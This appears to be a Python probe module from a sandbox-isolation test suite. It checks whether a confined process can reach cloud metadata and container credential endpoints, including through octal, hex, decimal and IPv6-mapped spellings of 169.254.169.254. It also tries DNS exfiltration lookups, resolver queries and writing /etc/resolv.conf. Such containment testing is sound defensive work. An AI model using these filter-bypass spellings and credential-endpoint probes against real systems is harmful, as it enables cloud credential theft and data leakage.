"""Metadata services of clouds, by address, by odd spellings and by name; and the name service itself."""

import os
import socket
import struct
import urllib.error
import urllib.request

from common import Refused, opened, proof


def asked(w, host, family=socket.AF_INET, port=80):
    link = socket.socket(family, socket.SOCK_STREAM)
    link.settimeout(2)
    link.connect((host, port))
    link.sendall(b"GET /latest/meta-data/ HTTP/1.0\r\n\r\n")
    return proof(w, link.recv(400))


def the_metadata_of_the_instance(w):
    return asked(w, "169.254.169.254")


def the_metadata_of_the_instance_by_its_client(w):
    try:
        with urllib.request.urlopen("http://169.254.169.254/latest/meta-data/", timeout=2) as answer:
            return proof(w, answer.read())
    except urllib.error.URLError as error:
        raise error.reason if isinstance(error.reason, OSError) else Refused(str(error))


def the_metadata_of_the_instance_by_version_6(w):
    return asked(w, "fd00:ec2::254", socket.AF_INET6)


def the_metadata_of_the_instance_by_a_mapped_address(w):
    return asked(w, "::ffff:169.254.169.254", socket.AF_INET6)


def the_metadata_of_the_instance_as_one_number(w):
    return asked(w, "2852039166")


def the_metadata_of_the_instance_in_hexadecimal(w):
    return asked(w, "0xa9fea9fe")


def the_metadata_of_the_instance_in_octal(w):
    return asked(w, "0251.0376.0251.0376")


def the_metadata_of_the_instance_in_two_parts(w):
    return asked(w, "169.16689662")


def the_credentials_of_the_container(w):
    return asked(w, "169.254.170.2")


def the_credentials_of_the_pod(w):
    return asked(w, "169.254.170.23")


def the_metadata_of_alibaba(w):
    return asked(w, "100.100.100.200")


def the_metadata_of_azure(w):
    return asked(w, "168.63.129.16")


def the_metadata_of_oracle(w):
    return asked(w, "192.0.0.192")


def the_metadata_of_google_by_its_name(w):
    return asked(w, "metadata.google.internal")


def any_name_is_resolved(w):
    found = socket.getaddrinfo("%s.exfiltrated.test" % w.mark[-8:], 80)
    return "resolved to %s" % found[0][4][0]


def any_name_is_resolved_by_the_older_call(w):
    return "resolved to " + socket.gethostbyname("%s.older.test" % w.mark[-8:])


def question(name):
    labels = b"".join(bytes([len(part)]) + part.encode() for part in name.split("."))
    return struct.pack(">HHHHHH", 7, 0x100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">HH", 1, 1)


def asked_for_a_name(host, family=socket.AF_INET):
    link = socket.socket(family, socket.SOCK_DGRAM)
    link.settimeout(2)
    link.sendto(question("exfiltrated.test"), (host, 53))
    return "the name server answered %d bytes" % len(link.recv(512))


def the_name_server_of_the_machine(w):
    return asked_for_a_name("127.0.0.53")


def the_name_server_of_the_network(w):
    return asked_for_a_name(w.address)


def the_name_server_of_the_instance(w):
    return asked_for_a_name("169.254.169.253")


def the_name_server_by_version_6(w):
    return asked_for_a_name(w.address6, socket.AF_INET6)


def the_name_server_over_a_connection(w):
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.settimeout(2)
    link.connect(("127.0.0.53", 53))
    asked = question("exfiltrated.test")
    link.sendall(struct.pack(">H", len(asked)) + asked)
    return "the name server answered %d bytes" % len(link.recv(512))


def the_names_of_the_neighbourhood(w):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton(w.address))
    link.settimeout(2)
    link.sendto(question("neighbour.local"), ("224.0.0.251", 5353))
    return "asked the neighbourhood"


def the_time_of_the_instance(w):
    link = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    link.settimeout(2)
    link.sendto(b"\x1b" + bytes(47), ("169.254.169.123", 123))
    return "the time server answered %d bytes" % len(link.recv(100))


def a_name_server_of_its_own_choice(w):
    return opened("/etc/resolv.conf", os.O_WRONLY | os.O_APPEND)
